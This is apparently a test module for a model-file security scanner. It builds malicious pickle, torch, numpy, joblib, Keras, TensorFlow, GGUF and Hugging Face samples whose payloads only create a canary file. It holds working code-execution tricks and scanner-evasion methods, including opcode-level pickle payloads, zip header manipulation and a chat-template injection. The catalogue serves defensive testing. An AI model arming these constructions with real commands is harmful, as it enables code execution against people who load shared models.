"""Catalogue of malicious model files: each one really runs code under its natural loader.

Every payload is harmless: it creates the canary file (``tests/canary.py:Canary``) and nothing
else. Samples are built in code, so the suite needs no binary fixtures. ``run_natural_loads``
proves a batch of samples real in one fresh interpreter (one fork per sample).
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import pickletools
import shutil
import struct
import sys
import tarfile
import time
import traceback
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from trainwarden.findings import Verdict

if TYPE_CHECKING:
    from canary import Canary

__all__ = ["ATTACKS", "Attack", "attacks_by_id", "run_natural_loads"]


@dataclass(frozen=True)
class Attack:
    """One malicious sample: how to build it and the loader a victim would call on it.

    ``expected`` is the least severe verdict a scanner may give: ``UNSAFE`` means exactly
    unsafe (a code-execution primitive), ``UNKNOWN`` accepts unknown or unsafe. ``executes``
    is False only for documented, patched attacks (the natural loader must *not* run them).
    """

    id: str
    technique: str
    advisory: str
    description: str
    build: Callable[[Path, Canary], Path]
    natural_load: Callable[[Path], object]
    requires: tuple[str, ...] = ()
    expected: Verdict = Verdict.UNSAFE
    executes: bool = True


# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler: the opcode-level tricks need exact control over every byte.
# ---------------------------------------------------------------------------------------------


class Op(bytes):
    """Raw opcode bytes, inserted verbatim by ``enc``."""


def _str(text: str) -> bytes:
    data = text.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE
    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE


def enc(value: object) -> bytes:
    """Encode a plain value (str, bytes, int, None, bool, tuple, list, dict, Op) as opcodes."""
    if isinstance(value, Op):
        return bytes(value)
    if value is None:
        return b"N"
    if value is True:
        return b"\x88"
    if value is False:
        return b"\x89"
    if isinstance(value, int):
        if -(2**31) <= value < 2**31:
            return b"J" + struct.pack("<i", value)
        return pickle.dumps(value, protocol=2)[2:-1]
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return _str(value)
    if isinstance(value, bytes):
        if len(value) < 256:
            return b"C" + bytes([len(value)]) + value
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        items = b"".join(enc(v) for v in value)
        if len(value) <= 3:
            return items + (b")", b"\x85", b"\x86", b"\x87")[len(value)]
        return b"(" + items + b"t"
    if isinstance(value, list):
        return b"]" + (b"(" + b"".join(enc(v) for v in value) + b"e" if value else b"")
    if isinstance(value, dict):
        body = b"".join(enc(k) + enc(v) for k, v in value.items())
        return b"}" + (b"(" + body + b"u" if value else b"")
    raise TypeError(f"cannot encode {type(value).__name__}")


def g(module: str, name: str) -> Op:
    """STACK_GLOBAL module.name (protocol 4)."""
    return Op(_str(module) + _str(name) + b"\x93")


def call(func: bytes, *args: object) -> Op:
    """``func(*args)`` through REDUCE."""
    return Op(bytes(func) + enc(tuple(args)) + b"R")


def p4(*parts: bytes) -> bytes:
    """A complete protocol-4 pickle of the given opcode parts."""
    return b"\x80\x04" + b"".join(parts) + b"."


def p2(*parts: bytes) -> bytes:
    """A complete protocol-2 pickle of the given opcode parts."""
    return b"\x80\x02" + b"".join(parts) + b"."


def text_global(module: str, name: str) -> Op:
    """GLOBAL opcode (text form, every protocol)."""
    return Op(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def _pystmt(canary: Canary) -> str:
    return canary.python_code


def _pyexpr(canary: Canary) -> str:
    return f"open({str(canary.path)!r}, 'w').close()"


def _touch_argv(canary: Canary) -> list[str]:
    return [shutil.which("touch") or "/usr/bin/touch", str(canary.path)]


# ---------------------------------------------------------------------------------------------
# Natural loaders: what a victim would call.
# ---------------------------------------------------------------------------------------------


def pickle_load(path: Path) -> object:
    """``pickle.load`` on the file."""
    with path.open("rb") as f:
        return pickle.load(f)


def pickle_load_then_fields(path: Path) -> object:
    """``pickle.load``, then unpickle each field that holds a pickle (raw, base64 or hex).

    The second stage a loader of non-tensor state performs (``torch.distributed.checkpoint``
    unpickles the bytes it saved; custom loaders decode text first).
    """
    obj = pickle_load(path)
    assert isinstance(obj, dict)
    for value in obj.values():
        if isinstance(value, str):
            value = base64.b64decode(value) if value.startswith("g") else bytes.fromhex(value)
        if isinstance(value, bytes):
            pickle.loads(value)
    return obj


def pickle_load_all(path: Path) -> object:
    """``pickle.load`` until EOF: how loaders read several objects from one stream."""
    out = []
    with path.open("rb") as f:
        while f.peek(1):
            out.append(pickle.load(f))
    return out


def pickle_load_all_bytesio(path: Path) -> object:
    """``pickle.load`` until EOF on ``io.BytesIO`` (no ``peek``: frames are read exactly)."""
    out = []
    f = io.BytesIO(path.read_bytes())
    while f.tell() < len(f.getbuffer()):
        out.append(pickle.load(f))
    return out


def pickle_load_bytesio(path: Path) -> object:
    """One ``pickle.load`` from ``io.BytesIO``, as torch.load reads a zip record."""
    return pickle.load(io.BytesIO(path.read_bytes()))


def pickle_load_with_dir_on_path(path: Path) -> object:
    """``pickle.load`` by a victim whose ``sys.path`` holds the shared folder (script dir, cwd)."""
    sys.path.insert(0, str(path.parent))
    return pickle_load(path)


def torch_load_unsafe(path: Path) -> object:
    """``torch.load(weights_only=False)``: what most training code still passes."""
    import torch

    return torch.load(path, weights_only=False)


def torch_load_default(path: Path) -> object:
    """``torch.load`` with its defaults (weights_only=True since torch 2.6)."""
    import torch

    return torch.load(path)


def torch_package_load_pickle(path: Path) -> object:
    """``torch.package.PackageImporter(path).load_pickle("model", "model.pkl")``."""
    from torch.package.package_importer import PackageImporter

    return PackageImporter(str(path)).load_pickle("model", "model.pkl")


def numpy_load_pickle(path: Path) -> object:
    """``numpy.load(allow_pickle=True)``, every array of an npz read."""
    import numpy as np

    res = np.load(path, allow_pickle=True)
    if hasattr(res, "files"):
        return {k: res[k] for k in res.files}
    return res


def joblib_load(path: Path) -> object:
    """``joblib.load``."""
    import joblib

    return joblib.load(path)


def _unpack_first(path: Path) -> bytes:
    """What a loader that accepts compressed/archived pickles reads (pandas-style inference)."""
    if tarfile.is_tarfile(path):
        with tarfile.open(path) as t:
            f = t.extractfile(t.getmembers()[0])
            assert f is not None
            return f.read()
    raw = path.read_bytes()
    if raw[:2] == b"\x1f\x8b":
        return gzip.decompress(raw)
    if raw[:3] == b"BZh":
        return bz2.decompress(raw)
    if raw[:6] == b"\xfd7zXZ\x00":
        return lzma.decompress(raw)
    if raw[:4] == b"\x04\x22\x4d\x18":
        import lz4.frame

        return bytes(lz4.frame.decompress(raw))
    if raw[:6] == b"7z\xbc\xaf\x27\x1c":
        import py7zr

        with py7zr.SevenZipFile(path) as z:
            name = z.getnames()[0]
            out = path.parent / "_7z_out"
            z.extractall(out)
            data: bytes = (out / name).read_bytes()
            return data
    with zipfile.ZipFile(path) as z:
        return z.read(z.namelist()[0])


def unpack_and_pickle_load(path: Path) -> object:
    """Decompress / unpack the first member, then ``pickle.loads`` it."""
    return pickle.loads(_unpack_first(path))


def accelerate_load_custom_state(path: Path) -> object:
    """accelerate's ``load_custom_state`` (always ``weights_only=False``) on a checkpoint dir."""
    from accelerate import PartialState
    from accelerate.checkpointing import load_custom_state

    PartialState(cpu=True)

    class _Registered:
        def load_state_dict(self, state: object) -> None:
            self.state = state

    obj = _Registered()
    load_custom_state(obj, path, index=0)
    return obj


def hf_from_pretrained_remote_code(path: Path) -> object:
    """``AutoConfig.from_pretrained(dir, trust_remote_code=True)`` (what model cards tell users)."""
    from transformers import AutoConfig

    return AutoConfig.from_pretrained(str(path), trust_remote_code=True)


def diffusers_from_pretrained_remote_code(path: Path) -> object:
    """``DiffusionPipeline.from_pretrained(dir, trust_remote_code=True)``."""
    from diffusers import DiffusionPipeline

    return DiffusionPipeline.from_pretrained(str(path), trust_remote_code=True)


def keras_load_model(path: Path) -> object:
    """``keras.saving.load_model(path, safe_mode=False)`` (torch backend, as on a torch cluster)."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    return keras.saving.load_model(path, safe_mode=False)


def read_gguf_metadata(path: Path) -> dict[str, object]:
    """Parse GGUF v2/v3 key-value metadata (strings, ints, floats, bools, arrays skipped)."""
    data = path.read_bytes()
    if data[:4] != b"GGUF":
        raise ValueError("not GGUF")
    pos = 8
    _tensors, kv_count = struct.unpack_from("<QQ", data, pos)
    pos += 16
    out: dict[str, object] = {}
    for _ in range(kv_count):
        (klen,) = struct.unpack_from("<Q", data, pos)
        key = data[pos + 8 : pos + 8 + klen].decode()
        pos += 8 + klen
        (vtype,) = struct.unpack_from("<I", data, pos)
        pos += 4
        if vtype == 8:
            (vlen,) = struct.unpack_from("<Q", data, pos)
            out[key] = data[pos + 8 : pos + 8 + vlen].decode()
            pos += 8 + vlen
        elif vtype == 4:
            (out[key],) = struct.unpack_from("<I", data, pos)
            pos += 4
        else:
            raise ValueError(f"unsupported GGUF value type {vtype}")
    return out


def gguf_render_chat_template(path: Path) -> object:
    """Render the GGUF chat template as llama-cpp-python < 0.2.72 did (plain jinja2 Environment)."""
    import jinja2

    meta = read_gguf_metadata(path)
    template = jinja2.Environment(loader=jinja2.BaseLoader()).from_string(
        str(meta["tokenizer.chat_template"])
    )
    return template.render(messages=[{"role": "user", "content": "hi"}], add_generation_prompt=True)


# ---------------------------------------------------------------------------------------------
# Builders
# ---------------------------------------------------------------------------------------------

Payload = Callable[["Canary", Path], bytes]


def _file(name: str, payload: Payload) -> Callable[[Path, Canary], Path]:
    def build(directory: Path, canary: Canary) -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        out = directory / name
        out.write_bytes(payload(canary, directory))
        return out

    return build


def _sh(canary: Canary) -> str:
    return canary.shell_command


def _hidden_system(canary: Canary) -> bytes:
    """A protocol-4 pickle calling posix.system: what the embedded-pickle attacks hide as data."""
    return p4(call(g("posix", "system"), _sh(canary)))


class Reduce:
    """An object that pickles as ``func(*args)``: how real-world payloads are written."""

    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


def _system_obj(canary: Canary) -> Reduce:
    return Reduce(os.system, (canary.shell_command,))


# -- torch zip helpers ------------------------------------------------------------------------


def _torch_zip_members(obj: object) -> list[tuple[str, bytes]]:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def _benign_state() -> dict[str, Any]:
    import torch

    gen = torch.Generator().manual_seed(0)
    return {"weight": torch.randn(4, 4, generator=gen), "bias": torch.zeros(4)}


def _evil_state_pickle(canary: Canary) -> bytes:
    """The data.pkl torch would write for a state dict with one extra malicious entry."""
    members = dict(_torch_zip_members({**_benign_state(), "note": _system_obj(canary)}))
    return next(v for k, v in members.items() if k.endswith("data.pkl"))


def _rezip(
    members: Iterable[tuple[str, bytes]],
    *,
    compress_pickle: bool = False,
    zip64: bool = False,
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", allowZip64=True) as z:
        for name, data in members:
            method = (
                zipfile.ZIP_DEFLATED
                if compress_pickle and name.endswith(".pkl")
                else zipfile.ZIP_STORED
            )
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            with z.open(info, "w", force_zip64=zip64) as f:
                f.write(data)
    return out.getvalue()


def _torch_zip_with(canary: Canary, **opts: Any) -> bytes:
    evil = _evil_state_pickle(canary)
    members = [
        (n, evil if n.endswith("data.pkl") else d) for n, d in _torch_zip_members(_benign_state())
    ]
    return _rezip(members, **opts)


def torch_zip_renamed_prefix(canary: Canary, _d: Path) -> bytes:
    evil = _evil_state_pickle(canary)
    members = [
        (n.replace("archive/", "model_weights_v2/", 1), evil if n.endswith("data.pkl") else d)
        for n, d in _torch_zip_members(_benign_state())
    ]
    return _rezip(members)


def torch_zip_duplicate(canary: Canary, _d: Path) -> bytes:
    # torch (miniz) reads the first entry of a duplicated name, Python's zipfile the last one:
    # a scanner built on zipfile sees the benign pickle, torch runs the malicious one.
    evil = _evil_state_pickle(canary)
    benign = _torch_zip_members(_benign_state())
    good = next(d for n, d in benign if n.endswith("data.pkl"))
    members = [(n, evil if n.endswith("data.pkl") else d) for n, d in benign]
    members.append(("archive/data.pkl", good))
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _rezip(members)


def _patch_zip_headers(
    raw: bytes,
    member: bytes,
    *,
    local: Callable[[bytearray, int], None] | None = None,
    central: Callable[[bytearray, int], None] | None = None,
) -> bytes:
    out = bytearray(raw)
    for sig, fn, name_at in ((b"PK\x03\x04", local, 30), (b"PK\x01\x02", central, 46)):
        if fn is None:
            continue
        pos = 0
        while (pos := out.find(sig, pos)) != -1:
            if out[pos + name_at : pos + name_at + len(member)] == member:
                fn(out, pos)
            pos += 4
    return bytes(out)


def torch_zip_local_name_mismatch(canary: Canary, _d: Path) -> bytes:
    raw = _torch_zip_with(canary)

    def rename(buf: bytearray, pos: int) -> None:
        buf[pos + 30 : pos + 30 + 16] = b"archive/xxxx.pkl"

    return _patch_zip_headers(raw, b"archive/data.pkl", local=rename)


def torch_zip_flag_bit(canary: Canary, _d: Path) -> bytes:
    raw = _torch_zip_with(canary)

    # General-purpose flag bit 0 ("encrypted") on the pickle's local header only: zipfile
    # refuses to read the member, torch's reader uses the central directory and ignores it.
    def flag(buf: bytearray, pos: int) -> None:
        buf[pos + 6] |= 1

    return _patch_zip_headers(raw, b"archive/data.pkl", local=flag)


def torch_zip_bad_crc(canary: Canary, _d: Path) -> bytes:
    raw = _torch_zip_with(canary)

    def local_crc(buf: bytearray, pos: int) -> None:
        buf[pos + 14] ^= 0xFF

    def central_crc(buf: bytearray, pos: int) -> None:
        buf[pos + 16] ^= 0xFF

    return _patch_zip_headers(raw, b"archive/data.pkl", local=local_crc, central=central_crc)


def torch_zip_save(canary: Canary, _d: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_system_obj(canary), buf)
    return buf.getvalue()


def torch_zip_nested(canary: Canary, _d: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    state = {
        "model": _benign_state(),
        "optimizer": {"state": {}, "param_groups": [{"lr": 0.1, "params": [0, 1]}]},
        "epoch": 3,
        "extra": [1, 2, {"hooks": (_system_obj(canary),)}],
    }
    torch.save(state, buf)
    return buf.getvalue()


def _legacy_parts() -> list[bytes]:
    """Split a real legacy (pre-zip) torch file into its consecutive pickles and raw tail."""
    import torch

    buf = io.BytesIO()
    torch.save(_benign_state(), buf, _use_new_zipfile_serialization=False)
    raw = buf.getvalue()
    parts, pos = [], 0
    for _ in range(5):  # magic, protocol, sys_info, object, storage keys
        f = io.BytesIO(raw)
        f.seek(pos)
        for _op in pickletools.genops(f):
            pass
        parts.append(raw[pos : f.tell()])
        pos = f.tell()
    parts.append(raw[pos:])
    return parts


def _splice_call(original: bytes, payload_call: bytes) -> bytes:
    """Run ``payload_call``, POP its result, then continue with the original pickle."""
    assert original[:2] == b"\x80\x02"
    return b"\x80\x02" + payload_call + b"0" + original[2:]


def torch_legacy_save(canary: Canary, _d: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(
        {"w": _benign_state(), "x": _system_obj(canary)}, buf, _use_new_zipfile_serialization=False
    )
    return buf.getvalue()


def torch_legacy_magic(canary: Canary, _d: Path) -> bytes:
    parts = _legacy_parts()
    parts[0] = _splice_call(parts[0], call(text_global("posix", "system"), _sh(canary)))
    return b"".join(parts)


def torch_legacy_storage_keys(canary: Canary, _d: Path) -> bytes:
    parts = _legacy_parts()
    parts[4] = _splice_call(parts[4], call(text_global("posix", "system"), _sh(canary)))
    return b"".join(parts)


def pickle_zip_polyglot(canary: Canary, _d: Path) -> bytes:
    # A pickle followed by a valid torch zip: zip readers find the archive from its end
    # (Python's zipfile accepts prepended data) and see a benign state dict, but a pickle
    # loader reads from offset 0 and runs the prefix.
    evil = p2(call(text_global("posix", "system"), _sh(canary)))
    return evil + torch_zip_save_benign()


def torch_zip_save_benign() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_benign_state(), buf)
    return buf.getvalue()


def torchscript_payload(canary: Canary, _d: Path) -> bytes:
    import torch

    class M(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        members = [(i.filename, z.read(i)) for i in z.infolist()]
    evil = p2(call(text_global("posix", "system"), _sh(canary)))
    members = [(n, evil if n.endswith("/data.pkl") else d) for n, d in members]
    return _rezip(members)


# -- numpy / joblib -----------------------------------------------------------------------------


def _np_object_array(canary: Canary) -> Any:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = {"label": "cat"}
    arr[1] = _system_obj(canary)
    return arr


def npy_object(canary: Canary, _d: Path) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, _np_object_array(canary), allow_pickle=True)
    return buf.getvalue()


def npz_object(canary: Canary, _d: Path) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.savez(buf, weights=np.arange(6, dtype=np.float32), meta=_np_object_array(canary))
    return buf.getvalue()


def _joblib(compress: object) -> Callable[[Path, Canary], Path]:
    def build(directory: Path, canary: Canary) -> Path:
        import joblib
        import numpy as np

        directory.mkdir(parents=True, exist_ok=True)
        out = directory / "model.joblib"
        obj = {"coef": np.arange(8.0), "hook": _system_obj(canary)}
        joblib.dump(obj, out, compress=compress)
        return out

    return build


# -- archives ------------------------------------------------------------------------------------


def _evil_pickle(canary: Canary) -> bytes:
    return pickle.dumps({"weights": [0.5, 0.25], "hook": _system_obj(canary)}, protocol=4)


def _archive(kind: str) -> Callable[[Path, Canary], Path]:
    def build(directory: Path, canary: Canary) -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        data = _evil_pickle(canary)
        if kind == "gz":
            out = directory / "model.pkl.gz"
            out.write_bytes(gzip.compress(data, mtime=0))
        elif kind == "bz2":
            out = directory / "model.pkl.bz2"
            out.write_bytes(bz2.compress(data))
        elif kind == "xz":
            out = directory / "model.pkl.xz"
            out.write_bytes(lzma.compress(data))
        elif kind == "lz4":
            import lz4.frame

            out = directory / "model.pkl.lz4"
            out.write_bytes(lz4.frame.compress(data))
        elif kind == "zip":
            out = directory / "model.zip"
            with zipfile.ZipFile(out, "w") as z:
                z.writestr("model.pkl", data)
        elif kind == "tar":
            out = directory / "model.tar.gz"
            with tarfile.open(out, "w:gz") as t:
                info = tarfile.TarInfo("model.pkl")
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
        elif kind == "7z":
            import py7zr

            out = directory / "model.7z"
            with py7zr.SevenZipFile(out, "w") as z:
                z.writestr(data, "model.pkl")
        else:
            raise ValueError(kind)
        return out

    return build


# -- planted files ---------------------------------------------------------------------------


def _plant(directory: Path, relative: str, source: str) -> Path:
    path = directory / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source, encoding="utf-8")
    return path


def _module_name(directory: Path, stem: str) -> str:
    # Module names are unique per sample dir, so several samples load in one interpreter.
    return f"{stem}_{abs(hash(str(directory))) % 10**8}"


def planted_import_module(canary: Canary, directory: Path) -> bytes:
    name = _module_name(directory, "tw_helpers")
    _plant(directory, f"{name}.py", _pystmt(canary) + "\n")
    return p4(call(g("importlib", "import_module"), name))


def planted_global(canary: Canary, directory: Path) -> bytes:
    name = _module_name(directory, "tw_layers")
    _plant(directory, f"{name}.py", _pystmt(canary) + "\nclass Block(dict):\n    pass\n")
    # Nothing here names a dangerous function: importing the module is the payload.
    return p4(call(g(name, "Block")))


def planted_run_path(canary: Canary, directory: Path) -> bytes:
    script = _plant(directory, "tw_hooks.py", _pystmt(canary) + "\n")
    return p4(call(g("runpy", "run_path"), str(script)))


def planted_run_setup(canary: Canary, directory: Path) -> bytes:
    script = _plant(directory, "pkg/setup.py", _pystmt(canary) + "\n")
    return p4(call(g("distutils.core", "run_setup"), str(script), [], "init"))


def planted_pip_main(canary: Canary, directory: Path) -> bytes:
    src = directory / "tw_pkg"
    _plant(
        directory,
        "tw_pkg/setup.py",
        _pystmt(canary) + "\nfrom setuptools import setup\nsetup(name='tw-pkg', version='0')\n",
    )
    args = [
        "download",
        "--no-deps",
        "--no-build-isolation",
        "--no-index",
        "-q",
        "-d",
        str(directory / "dl"),
        str(src),
    ]
    return p4(call(g("pip", "main"), args))


def planted_ensurepip(canary: Canary, directory: Path) -> bytes:
    _plant(directory, "fakepip/pip/__init__.py", "")
    _plant(directory, "fakepip/pip/__main__.py", _pystmt(canary) + "\n")
    return p4(call(g("ensurepip", "_run_pip"), ["--version"], [str(directory / "fakepip")]))


# -- framework files --------------------------------------------------------------------------


def build_hf_auto_map(directory: Path, canary: Canary) -> Path:
    model_dir = directory / "tiny-model"
    model_dir.mkdir(parents=True, exist_ok=True)
    (model_dir / "configuration_tiny.py").write_text(
        _pystmt(canary) + "\nfrom transformers import PretrainedConfig\n\n\n"
        "class TinyConfig(PretrainedConfig):\n    model_type = 'tiny-remote'\n",
        encoding="utf-8",
    )
    config = {
        "model_type": "tiny-remote",
        "architectures": ["TinyModel"],
        "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig"},
    }
    (model_dir / "config.json").write_text(json.dumps(config, indent=2), encoding="utf-8")
    return model_dir


def _pb_varint(n: int) -> bytes:
    out = bytearray()
    while n > 0x7F:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def _pb(number: int, raw: bytes) -> bytes:
    """A length-delimited protobuf field."""
    return _pb_varint(number << 3 | 2) + _pb_varint(len(raw)) + raw


def _tf_string_const(name: str, value: bytes) -> bytes:
    """NodeDef of a scalar string Const (attrs dtype=DT_STRING, value=TensorProto)."""
    dt_string = b"\x30\x07"  # AttrValue.type = 7 (DT_STRING)
    tensor = b"\x08\x07" + _pb(2, b"") + _pb(8, value)  # dtype, tensor_shape {}, string_val
    attrs = _pb(5, _pb(1, b"dtype") + _pb(2, dt_string))
    attrs += _pb(5, _pb(1, b"value") + _pb(2, _pb(8, tensor)))
    return _pb(1, _pb(1, name.encode()) + _pb(2, b"Const") + attrs)


def tf_graph_write_file_extra_field(canary: Canary, directory: Path) -> bytes:
    """A frozen GraphDef whose WriteFile node creates the canary, plus one unknown field.

    GraphDef().ParseFromString keeps field 15 as an unknown field; the scanner matched only
    graphs whose top-level fields were all GraphDef's and called this one data.
    """
    nodes = _tf_string_const("path", str(canary.path).encode())
    nodes += _tf_string_const("contents", b"ran")
    nodes += _pb(1, _pb(1, b"w") + _pb(2, b"WriteFile") + _pb(3, b"path") + _pb(3, b"contents"))
    return nodes + _pb(15, b"exported by tool x")


def tf_run_frozen_graph(path: Path) -> object:
    """Import a frozen GraphDef and run its output node, as inference code does."""
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import tensorflow as tf

    graph_def = tf.compat.v1.GraphDef()
    graph_def.ParseFromString(path.read_bytes())
    with tf.Graph().as_default() as graph:
        tf.import_graph_def(graph_def, name="")
    with tf.compat.v1.Session(graph=graph) as session:
        return session.run(graph.get_operation_by_name("w"))


def build_diffusers_custom_component(directory: Path, canary: Canary) -> Path:
    """A diffusers pipeline whose model_index.json loads its UNet from a planted module."""
    pipe = directory / "tiny-pipeline"
    for folder in ("unet", "scheduler"):
        (pipe / folder).mkdir(parents=True, exist_ok=True)
    (pipe / "unet" / "my_unet.py").write_text(
        _pystmt(canary) + "\n\n\nclass MyUNet:\n    pass\n", encoding="utf-8"
    )
    scheduler = {"_class_name": "DDPMScheduler", "_diffusers_version": "0.30.0"}
    (pipe / "scheduler" / "scheduler_config.json").write_text(json.dumps(scheduler))
    index = {
        "_class_name": "DDPMPipeline",
        "_diffusers_version": "0.30.0",
        "scheduler": ["diffusers", "DDPMScheduler"],
        "unet": ["my_unet", "MyUNet"],
    }
    (pipe / "model_index.json").write_text(json.dumps(index, indent=2), encoding="utf-8")
    return pipe


def build_keras_lambda(directory: Path, canary: Canary) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = str(canary.path)
    fn = eval(f"lambda x: (open({path!r}, 'w').close(), x)[1]")
    code = base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": "float32",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
                },
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "trainable": True,
                        "dtype": "float32",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": code, "defaults": None, "closure": None},
                        },
                        "arguments": {},
                    },
                    "build_config": {"input_shape": [None, 4]},
                },
            ],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }
    meta = {"keras_version": "3.6.0", "date_saved": "2024-11-01@00:00:00"}
    out = directory / "model.keras"
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("metadata.json", json.dumps(meta))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"")
    return out


def keras_lambda_bare(*others: str) -> Callable[[Path, Canary], Path]:
    """The Lambda ``.keras`` with only ``config.json`` and ``others`` (empty) beside it.

    Keras builds the model from config.json before it looks for weights (and never reads
    metadata.json to decide), so the Lambda runs whatever else the archive holds.
    """

    def build(directory: Path, canary: Canary) -> Path:
        with zipfile.ZipFile(build_keras_lambda(directory / "full", canary)) as full:
            config = full.read("config.json")
        out = directory / "model.keras"
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("config.json", config)
            for name in others:
                z.writestr(name, b"")
        return out

    return build


def _gguf_kv_str(key: str, value: str) -> bytes:
    k, v = key.encode(), value.encode()
    return struct.pack("<Q", len(k)) + k + struct.pack("<I", 8) + struct.pack("<Q", len(v)) + v


def gguf_ssti(canary: Canary, _d: Path) -> bytes:
    template = (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen(" + json.dumps(_sh(canary)) + ").read() }}"
    )
    kvs = [
        _gguf_kv_str("general.architecture", "llama"),
        _gguf_kv_str("general.name", "tiny"),
        _gguf_kv_str("tokenizer.chat_template", template),
    ]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + b"".join(kvs)


def build_accelerate_custom(directory: Path, canary: Canary) -> Path:
    ckpt = directory / "checkpoint"
    ckpt.mkdir(parents=True, exist_ok=True)
    (ckpt / "custom_checkpoint_0.pkl").write_bytes(torch_zip_save(canary, ckpt))
    return ckpt


# ---------------------------------------------------------------------------------------------
# Opcode-level payloads
# ---------------------------------------------------------------------------------------------


def stack_global_memo(canary: Canary, _d: Path) -> bytes:
    # Names are memoised, the stack is cleared, then STACK_GLOBAL takes them from the memo.
    return p4(
        Op(_str("collections") + b"\x94" + _str("OrderedDict") + b"\x94" + b"00"),
        Op(_str("posix") + b"\x94" + _str("system") + b"\x94" + b"00"),
        Op(b"h\x02h\x03\x93"),
        enc((_sh(canary),)),
        Op(b"R"),
    )


def stack_global_dup(canary: Canary, _d: Path) -> bytes:
    # The name is pushed once and duplicated; a decoy string pair sits in between.
    return p4(
        Op(_str("builtins") + _str("torch._utils") + _str("_rebuild_tensor_v2") + b"00"),
        Op(_str("exec") + b"2" + b"0" + b"\x93"),
        enc((_pystmt(canary),)),
        Op(b"R"),
    )


def stack_global_binstring(canary: Canary, _d: Path) -> bytes:
    # SHORT_BINSTRING decodes to str (protocol 1 opcode), so STACK_GLOBAL accepts it.
    return p4(
        Op(b"U\x05posix" + b"U\x06system" + b"\x93"),
        enc((_sh(canary),)),
        Op(b"R"),
    )


def inst_opcode(canary: Canary, _d: Path) -> bytes:
    cmd = _sh(canary).encode()
    return b"(V" + cmd + b"\nios\nsystem\n."


def obj_opcode(canary: Canary, _d: Path) -> bytes:
    return p2(Op(b"(" + bytes(text_global("os", "system")) + enc(_sh(canary)) + b"o"))


def setstate_injection(canary: Canary, _d: Path) -> bytes:
    # NEWOBJ builds an allowlisted-looking object; the first BUILD plants ``__setstate__`` in
    # its ``__dict__``; the second BUILD finds it by attribute lookup and calls it.
    return p4(
        g("argparse", "Namespace"),
        Op(b")\x81"),
        enc({"__setstate__": g("posix", "system")}),
        Op(b"b"),
        enc(_sh(canary)),
        Op(b"b"),
    )


def setstate_injection_newobj_ex(canary: Canary, _d: Path) -> bytes:
    return p4(
        g("argparse", "Namespace"),
        Op(b")}\x92"),
        enc({"__setstate__": g("builtins", "exec")}),
        Op(b"b"),
        enc(_pystmt(canary)),
        Op(b"b"),
    )


def frame_lie(canary: Canary, _d: Path) -> bytes:
    # FRAME announces 3 bytes; the C unpickler treats frames as a read hint, so the opcodes
    # after the frame's end still run. A scanner trusting frame lengths would misparse.
    body = bytes(call(g("posix", "system"), _sh(canary)))
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"."


def _frame(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


def frame_past_stop(canary: Canary, _d: Path) -> bytes:
    # A FRAME after PROTO that reaches past the first STOP and over the whole second pickle.
    # A buffered file peeks the frame: after STOP it stands right after STOP and the next
    # pickle.load runs the second pickle. A reader that took the frame whole (BytesIO,
    # pickle._Unpickler) stands at the frame's end, past it: a scanner following only that
    # reader never sees the payload (trainwarden did, before 2026-12).
    benign = b"K\x01."
    evil = p4(call(g("posix", "system"), _sh(canary)))
    return b"\x80\x04" + _frame(len(benign) + len(evil)) + benign + evil


